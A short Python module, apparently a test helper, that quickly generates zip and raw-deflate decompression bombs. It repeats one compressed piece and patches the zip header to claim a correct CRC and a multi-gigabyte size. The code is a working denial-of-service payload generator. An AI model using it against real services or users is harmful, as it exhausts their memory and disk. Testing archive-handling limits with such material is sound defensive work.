"""Bombs, packed in no time: a piece is packed once, and its packed bytes are repeated."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Mapping

from isal import isal_zlib

_END_OF_DEFLATE = b"\x03\x00"
"""A last block without content."""


def deflate_repeated(piece: bytes, times: int) -> bytes:
    """A piece so many times, deflated.

    A full flush ends at a byte and forgets what came before, so that the packed piece may follow itself.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    packed = compressor.compress(piece) + compressor.flush(zlib.Z_FULL_FLUSH)
    return packed * times + _END_OF_DEFLATE


def zip_repeated(name: str, piece: bytes, times: int, others: Mapping[str, bytes] | None = None) -> bytes:
    """A zip with a member of a piece so many times, 4 GB at most, behind some others."""
    packed, total = deflate_repeated(piece, times), 0
    for _ in range(times):
        total = isal_zlib.crc32(piece, total)
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for other, data in (others or {}).items():
            archive.writestr(other, data)
        archive.writestr(name, packed)
        member = archive.getinfo(name)
        # It is written as if it were stored, and then described as what it is.
        member.compress_type, member.CRC, member.file_size = zipfile.ZIP_DEFLATED, total, len(piece) * times
        head = member.FileHeader(zip64=False)
    whole = bytearray(file.getvalue())
    whole[member.header_offset : member.header_offset + len(head)] = head
    return bytes(whole)
